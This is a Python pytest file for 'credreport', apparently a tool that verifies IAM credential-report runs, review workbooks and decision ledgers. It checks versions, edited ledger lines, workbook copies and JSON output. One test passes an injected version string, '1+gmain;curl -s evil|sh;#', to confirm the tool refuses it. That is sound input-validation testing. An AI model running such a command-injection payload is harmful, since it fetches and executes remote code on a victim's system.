    for report in (REPORT, reports / "111122223333.csv"):
        shutil.copy(report, later / f"{report.stem[:3]}.csv")
    run("export", "--from", later, "--out-dir", runs)
    every = sorted(path for path in runs.iterdir() if path.is_dir() and not path.is_symlink())
    assert verified(every[-1])[0] == 0
    gone = json.loads((every[-1] / "manifest.json").read_bytes())["made_from"]["older_runs"]
    for name in set(gone.values()):
        shutil.rmtree(runs / name)
    code, text = verified(every[-1])
    assert (code, "accounts of older runs: " in text) == (0, bool(gone)), text


def test_a_run_of_another_version_and_a_folder_without_one_are_refused(folder: Path) -> None:
    run_folder = folder / "runs" / MARCH
    for version, named in (
        ("0.0.9", "0.0.9"),
        ("0.1.0.dev0+gabc123456.d20260301", "0.1.0.dev0+gabc123456.d20260301"),
        ("1+gmain;curl -s evil|sh;#", "an unknown version"),
        ("1.0\n2.0", "an unknown version"),
        ("", "an unknown version"),
    ):
        tool = {"name": "credreport", "version": version}
        changed_json("manifest.json", methodcaller("update", tool=tool))(run_folder)
        code, text = verified(run_folder)
        message = f"{named} of credreport wrote it, and this is {VERSION}"
        hint = "Verify it with the version that wrote it."
        assert (code, text) == (3, f"credreport: {run_folder}: {message}\n    {hint}\n"), text
    (run_folder / "manifest.json").unlink()
    code, text = verified(run_folder)
    assert (code, "no run of export" in text) == (3, True)


# Of ledgers


def ledger_rows(folder: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((folder / "decisions.csv").read_text())))


def write_ledger(folder: Path, rows: list[dict[str, str]]) -> None:
    with (folder / "decisions.csv").open("w", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def of_ledger(folder: Path, *more: object) -> tuple[int, str]:
    given = ("--report", REPORT) + LISTS + more
    return verified(folder / "decisions.csv", folder / "filled.xlsx", *given)


LEDGER_CHEATS: dict[str, tuple[dict[str, str], str]] = {
    "the word": ({"decision": "keep", "comment": "x"}, "filled.xlsx has delete"),
    "the name": ({"decided_by": "Bob"}, "filled.xlsx has delete"),
    "the date": ({"decided_on": "2026-03-01"}, "filled.xlsx has delete"),
    "the report": ({"as_of": "2026-03-01T10:00:00Z"}, "decisions.csv: delete, anna, 2026-03-02"),
    "no users of its second": ({"same_second": ""}, "column same_second: it is empty, and collect"),
    "a cell that was seen": ({"mfa_active": "true"}, "column mfa_active: false in the report"),
    "a verdict": ({"verdict": "active"}, "column verdict: unused in the report"),
    "the row": ({"row": "99"}, "column row: 99; filled.xlsx has the entry in row "),
    "the workbook": (
        {"workbook": "a.xlsx"},
        "column workbook: a.xlsx; the entry is in filled.xlsx; if in both, name that file too",
    ),
    "the users of its second": (
        {"same_second": "eve;lena.hartwig"},
        "column same_second: lena.hartwig in the report; this file says eve;lena.hartwig",
    ),
}


@pytest.mark.parametrize("way", LEDGER_CHEATS)
def test_a_changed_line_of_a_ledger_differs_from_workbook_or_report(way: str, folder: Path) -> None:
    cells, told = LEDGER_CHEATS[way]
    first, *others = ledger_rows(folder)
    write_ledger(folder, [first | cells, *others])
    code, text = of_ledger(folder)
    assert (code, told in text) == (FAILED, True), text


def test_a_line_of_a_script_may_lack_what_collect_fills_in(folder: Path) -> None:
    first, *_ = ledger_rows(folder)
    own = {name: cell for name, cell in first.items() if name not in OF_COLLECT}
    write_ledger(folder, [own])
    code, text = verified(folder / "decisions.csv", "--report", REPORT, *LISTS)
    assert (code, "Reproduced: 0 differences" in text) == (0, True), text


OF_COLLECT = ("workbook", "row", "same_second")


@pytest.fixture
def listed(tmp_path: Path) -> Path:
    """Hold a list in CSV with one entry, and the ledger that it was collected in."""
    run("analyze", REPORT, "--verdict", "unused", "-o", tmp_path / "users.csv")
    head, *rows = (tmp_path / "users.csv").read_text().splitlines()
    names = ",".join(DECIDED)
    entered = [
        f"{'delete,Ann,2026-03-02,T-1,' if at == 0 else ',,,,'},{row}"
        for at, row in enumerate(rows)
    ]
    (tmp_path / "list.csv").write_text("\n".join([f"{names},{head}", *entered, ""]))
    list_, ledger = tmp_path / "list.csv", tmp_path / "decisions.csv"
    done = run("collect", list_, "--report", REPORT, "-o", ledger)
    assert done.code == 0, done.messages
    return tmp_path


DECIDED = ("decision", "decided_by", "decided_on", "ticket", "comment")


def of_list(folder: Path, *more: object) -> tuple[int, str]:
    return verified(folder / "decisions.csv", folder / "list.csv", "--report", REPORT, *more)


def rewritten(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize(
    ("file", "old", "new", "told"),
    [
        ("list.csv", "delete,Ann,", "keep,Ann,", "comment: the cell is empty"),
        ("list.csv", "delete,Ann,", "deactivate,Ann,", "list.csv, row 2: not in "),
        ("list.csv", "T-1,,123456789012", "T-2,,123456789012", "ticket or comment: list.csv has"),
        ("decisions.csv", "delete,Ann,", "delete,Eve,", "list.csv has delete, ann, 2026-03-02"),
        ("decisions.csv", ",unused,", ",retired,", "column verdict: unused in the report"),
        ("list.csv", ",unused,", ",retired,", "list.csv, row 2, column verdict: unused in the"),
    ],
)
def test_a_ledger_is_compared_with_lists_in_csv(
    listed: Path, file: str, old: str, new: str, told: str
) -> None:
    code, text = of_list(listed)
    assert (code, "0 differences of 2 outputs" in text, "without" in text) == (0, True, False), text
    rewritten(listed / file, old, new)
    code, text = of_list(listed)
    assert (code in (FAILED, 3), told in text) == (True, True), text


def test_an_emptied_entry_of_a_list_in_csv_and_a_report_that_is_not_given_are_named(
    listed: Path,
) -> None:
    code, text = verified(listed / "decisions.csv", listed / "list.csv")
    assert (code, "list.csv: 1 line without a report" in text) == (0, True), text
    rewritten(listed / "list.csv", "delete,Ann,2026-03-02,T-1,", ",,,,")
    code, text = of_list(listed)
    assert (code, "list.csv has no entry now" in text) == (0, True), text
    rewritten(listed / "list.csv", "unused", "retired")
    code, text = verified(listed / "list.csv", "--report", REPORT)
    assert (code, "0 differences" in text) == (0, True), text


def test_a_ledger_is_what_its_workbooks_and_reports_give(folder: Path) -> None:
    code, text = of_ledger(folder)
    assert (code, "Reproduced: 0 differences" in text, "line" in text) == (0, True, False), text
    code, text = verified(folder / "decisions.csv", "--report", EARLIER)
    told = "decisions.csv: 2 lines without a report", "2 lines without a workbook"
    assert (code, [each in text for each in told]) == (0, [True, True]), text
    code, text = verified(folder / "decisions.csv", folder / "filled.xlsx", *LISTS)
    assert (code, "reports that --report did not include" in text) == (3, True)


def test_a_line_that_is_gone_is_named_and_one_without_a_workbook_is_counted(folder: Path) -> None:
    first, *others = ledger_rows(folder)
    write_ledger(folder, others)
    code, text = of_ledger(folder)
    assert (code, "filled.xlsx, sheet Unused users, row" in text) == (FAILED, True), text
    assert "not in " in text
    write_ledger(folder, [first] + others + [first | {"decided_by": "Bob", "workbook": "bob.xlsx"}])
    code, text = of_ledger(folder)
    assert (code, "1 line without a workbook" in text) == (0, True), text


def test_an_emptied_or_corrected_entry_is_named_and_no_difference(folder: Path) -> None:
    for word, now in (("=", "no entry"), ("keep", "keep, ")):
        fill_in(folder / "filled.xlsx", {"lena.hartwig": word}, on=ON)
        book = folder / "filled.xlsx"
        run("collect", book, "--report", REPORT, *LISTS, "-o", folder / "decisions.csv")
        code, text = of_ledger(folder)
        assert (code, f"filled.xlsx has {now}" in text) == (0, True), text


def test_an_entry_that_was_not_collected_differs_also_if_it_is_not_valid(folder: Path) -> None:
    fill_in(folder / "filled.xlsx", {"oskar.lind": "remove"}, on=ON)
    code, text = of_ledger(folder)
    assert (code, "decisions.csv: remove, anna, 2026-03-02" in text) == (FAILED, True), text


def test_a_line_that_its_workbook_never_had_differs(folder: Path) -> None:
    first, *others = ledger_rows(folder)
    for cells in ({"decided_on": "2026-03-03"}, {"decided_by": "Eve"}):
        write_ledger(folder, [first] + others + [first | {"decision": "investigate"} | cells])
        code, text = of_ledger(folder)
        told = (code, "filled.xlsx has delete" in text, "not in" in text)
        assert told == (FAILED, True, False), text


def test_emptied_entries_of_one_person_and_day_are_one_note(folder: Path) -> None:
    names = ("oskar.lind", "vega,lena", "miriam.okafor")
    book = folder / "filled.xlsx"
    for word in ("delete", "="):
        fill_in(book, dict.fromkeys(names, word), on=ON)
        run("collect", book, "--report", REPORT, *LISTS, "-o", folder / "decisions.csv")
    code, text = of_ledger(folder)
    notes = [line for line in text.splitlines() if line.startswith("Note: ")]
    assert (code, len(notes)) == (0, 1), text
    assert "rows 3-4, 6: delete, Anna, 2026-03-02; filled.xlsx has no entry now" in notes[0]


def test_a_word_that_another_person_wrote_over_differs_without_the_copy_of_it(folder: Path) -> None:
    book, copy = folder / "filled.xlsx", folder / "collected" / "filled.xlsx"
    copy.parent.mkdir()
    shutil.copy(book, copy)
    fill_in(book, {"lena.hartwig": "delete"}, by="Ben", on=ON)
    given = ("--report", REPORT) + LISTS
    assert run("collect", book, *given, "-o", folder / "decisions.csv").code == 0
    code, text = of_ledger(folder)
    told = "filled.xlsx has delete, ben, 2026-03-02 now: written over, or never there. Name the"
    assert (code, told in text) == (FAILED, True), text
    code, text = verified(folder / "decisions.csv", book, copy, *given)
    assert (code, "0 differences" in text) == (0, True), text


def test_an_entry_that_was_emptied_in_one_of_several_copies_is_a_note(folder: Path) -> None:
    book, copy = folder / "filled.xlsx", folder / "ben" / "filled.xlsx"
    copy.parent.mkdir()
    shutil.copy(folder / "review.xlsx", copy)
    fill_in(copy, {"lena.hartwig": "keep"}, by="Ben", on=ON)
    given = ("--report", REPORT) + LISTS
    run("collect", copy, *given, "-o", folder / "decisions.csv")
    fill_in(book, {"lena.hartwig": "="}, on=ON)
    code, text = verified(folder / "decisions.csv", book, copy, *given)
    assert (code, "delete, Anna, 2026-03-02; filled.xlsx has no entry now" in text) == (0, True)


def test_a_line_of_another_review_under_the_same_name_is_without_a_workbook(
    folder: Path, tmp_path: Path
) -> None:
    """Each quarter's workbook of a split review has the name of its owner."""
    book = tmp_path / "december" / "filled.xlsx"
    book.parent.mkdir()
    assert run("analyze", EARLIER, "-o", book).code == 0
    fill_in(book, {"oskar.lind": "delete"}, on=date(2025, 12, 2))
    assert run("collect", book, "--report", EARLIER, "-o", folder / "decisions.csv").code == 0
    code, text = of_ledger(folder, "--report", EARLIER)
    assert (code, "decisions.csv: 1 line without a workbook" in text) == (0, True), text
    assert "Note: " not in text


def test_copies_of_a_workbook_are_compared_together(folder: Path) -> None:
    """Several people decide in copies of one name: each line is in one of them."""
    (folder / "ben").mkdir()
    copy = folder / "ben" / "filled.xlsx"
    copy.write_bytes((folder / "review.xlsx").read_bytes())
    fill_in(copy, {"oskar.lind": "keep"}, by="Ben", on=ON)
    given = ("--report", REPORT) + LISTS
    assert run("collect", copy, *given, "-o", folder / "decisions.csv").code == 0
    for books in ((folder / "filled.xlsx", copy), (copy, folder / "filled.xlsx")):
        code, text = verified(folder / "decisions.csv", *books, *given)
        assert (code, "0 differences" in text) == (0, True), text
    write_ledger(folder, [row for row in ledger_rows(folder) if row["decided_by"] != "Ben"])
    for books in ((folder / "filled.xlsx", copy), (copy, folder / "filled.xlsx")):
        code, text = verified(folder / "decisions.csv", *books, *given)
        assert (code, "not in " in text, "keep, ben" in text) == (FAILED, True, True), text


@pytest.mark.parametrize("column", ["ticket", "comment"])
def test_a_ticket_or_comment_that_the_workbook_does_not_have_differs(
    folder: Path, column: str
) -> None:
    first, *others = ledger_rows(folder)
    write_ledger(folder, [first | {column: "approved"}, *others])
    code, text = of_ledger(folder)
    assert (code, "ticket or comment: filled.xlsx has" in text) == (FAILED, True), text


@pytest.mark.parametrize("options", [("--definition", "iam-029"), ("--grace-days", "2000")])
def test_lines_of_a_review_with_other_limits_are_compared_by_its_limits(
    tmp_path: Path, options: tuple[str, ...]
) -> None:
    book, ledger = tmp_path / "r.xlsx", tmp_path / "decisions.csv"
    assert run("analyze", EARLIER, *options, "-o", book).code == 0
    fill_in(book, {"soap-archive": "delete"}, on=date(2025, 12, 2))
    assert run("collect", book, "--report", EARLIER, "-o", ledger).code == 0
    code, text = verified(ledger, book, "--report", EARLIER)
    assert (code, "0 differences" in text) == (0, True), text
    merged = run("collect", ledger, "--report", EARLIER, "-o", tmp_path / "merged.csv")
    assert merged.code == 0, merged.messages
    (row,) = ledger_rows(tmp_path)
    write_ledger(tmp_path, [row | {"verdict": "active"}])
    code, text = verified(ledger, book, "--report", EARLIER)
    assert (code, "column verdict" in text) == (FAILED, True), text


def test_a_line_whose_path_was_edited_is_compared_with_its_report(folder: Path) -> None:
    first, *others = ledger_rows(folder)
    arn = first["arn"].replace(":user/", ":user/other/")
    write_ledger(folder, [first | {"arn": arn}] + others)
    code, text = of_ledger(folder)
    assert (code, "column arn" in text) == (FAILED, True), text


def test_the_sentence_above_a_list_is_compared_with_the_reports(folder: Path) -> None:
    def edit(book: Workbook) -> None:
        sheet = book["Unused users"]
        above = next(cell for cell in sheet["A"] if str(cell.value).startswith("In every row"))
        above.value = str(above.value).replace("Account 1", "Account 2")

    edited(folder / "filled.xlsx", edit)
    code, text = of_workbook(folder / "filled.xlsx")
    assert (code, "Account 123456789012 in the report" in text) == (FAILED, True), text


def remark(old: str, new: str) -> Edit:
    """Return what replaces a text above the list."""

    def edit(book: Workbook) -> None:
        sheet = book["Unused users"]
        texts = [sheet.cell(row, 1) for row in range(1, head_row(sheet))]
        (above,) = (one for one in texts if old in str(one.value))
        above.value = str(above.value).replace(old, new)

    return edit


def moved_right(then: Edit) -> Edit:
    """Return what makes an edit, and then adds a column in front."""

    def edit(book: Workbook) -> None:
        then(book)
        book["Unused users"].insert_cols(1)

    return edit


OF_TWO = ("break-glass-1", "miriam.okafor")
OF_THREE = (*OF_TWO, "lena.hartwig")
MFA_ALONE = "An MFA device is registered, but no sign-in is on record."
NOT_ITS_SENTENCE = "not what this version of credreport says of the user"


@pytest.mark.parametrize(
    ("users", "edit", "told"),
    [
        (OF_TWO, remark(MFA_ALONE, "Fine."), f"Check first {MFA_ALONE} in the report"),
        (OF_TWO, remark("Why has a password", "Why had"), "Why has a password that was never"),
        (OF_TWO, moved_right(remark(MFA_ALONE, "Fine.")), f"Check first {MFA_ALONE} in the report"),
        (OF_THREE, remark(MFA_ALONE, "Fine."), NOT_ITS_SENTENCE),
        (OF_THREE, cell("Unused users", "miriam.okafor", "Check first", "fine"), NOT_ITS_SENTENCE),
        (OF_THREE, cell("Unused users", "lena.hartwig", "Check first", "x"), NOT_ITS_SENTENCE),
        (OF_THREE, lambda book: book["Unused users"].delete_rows(1, 3), ""),
        (OF_THREE, cell("Unused users", "miriam.okafor", "Check first", MFA_ALONE), ""),
    ],
)
def test_what_a_list_says_once_for_several_users_is_compared_too(
    tmp_path: Path, users: tuple[str, ...], edit: Edit, told: str
) -> None:
    book, report = tmp_path / "review.xlsx", tmp_path / REPORT.name
    head, root, *rows = REPORT.read_text().splitlines(keepends=True)
    some = [row for row in rows if row.startswith(tuple(f"{name}," for name in users))]
    report.write_text("".join([head, root, *some]))
    assert run("analyze", report, "-o", book).code == 0
    assert verified(book, "--report", report)[0] == 0
    code, text = verified(edited(book, edit), "--report", report)
    assert (code, told in text) == (FAILED if told else 0, True), text


@pytest.mark.parametrize("value", ["a  b", "a; b", "a.", "", "x" * 300, "a\tb", "“a” …"])
def test_what_a_report_says_of_every_user_may_be_any_text(tmp_path: Path, value: str) -> None:
    """Long texts are broken into rows above the list, and blanks may be lost there."""
    book, report = tmp_path / "review.xlsx", tmp_path / REPORT.name
    head, root, *rows = REPORT.read_text().splitlines(keepends=True)
    some = [row for row in rows if row.startswith(OF_TWO)]
    some = [row.replace(",no_information,", f',"{value}",', 1) for row in some]
    report.write_text("".join([head, root, *some]))
    assert run("analyze", report, "-o", book).code == 0
    code, text = verified(book, "--report", report)
    assert (code, "0 differences of 2 users" in text) == (0, True), text


def test_a_workbook_that_cannot_be_collected_differs(folder: Path) -> None:
    edited(folder / "filled.xlsx", cell("Unused users", "lena.hartwig", "Exposure", "none"))
    code, text = of_ledger(folder)
    assert (code, "this file says none" in text) == (FAILED, True), text


def test_the_result_is_written_as_json_too(folder: Path) -> None:
    edited(folder / "review.xlsx", cell("Unused users", "lena.hartwig", "Exposure", "none"))
    ended = run("verify", folder / "review.xlsx", "--report", REPORT, *LISTS, "-f", "json")
    (difference,) = ended.document["differences"]
    assert (ended.code, ended.document["users"], ended.document["outputs"]) == (FAILED, 34, 1)
    assert difference["message"].endswith("in the report; this file says none")
    assert "sheet Unused users, row " in difference["place"]


def test_the_text_names_the_first_differences_and_their_number(folder: Path) -> None:
    path = folder / "runs" / MARCH / "users.csv"
    path.write_text("".join(f"x{line}" for line in path.read_text().splitlines(keepends=True)))
    code, text = verified(folder / "runs" / MARCH)
    assert (code, "more: --format json lists all." in text) == (FAILED, True)


def test_an_untouched_run_of_files_of_one_name_in_several_folders_is_reproduced(
    tmp_path: Path,
) -> None:
    accounts = ("b", "111122223333"), ("a", "444455556666"), ("c", "222233334444")
    answer = json.loads((SAMPLES / "report.json").read_text())
    rows = base64.b64decode(answer["Content"]).decode()
    for folder, account in accounts:
        content = base64.b64encode(rows.replace("888899990000", account).encode()).decode()
        saved(tmp_path / "in" / folder, json.dumps(answer | {"Content": content}), "report.json")
    runs = tmp_path / "runs"
    assert run("export", "--from", tmp_path / "in", "--out-dir", runs, "-q").code == 0
    code, answer = verified((runs / "latest").resolve())
    assert (code, answer.startswith("Reproduced: 0 differences of 63 users")) == (0, True), answer
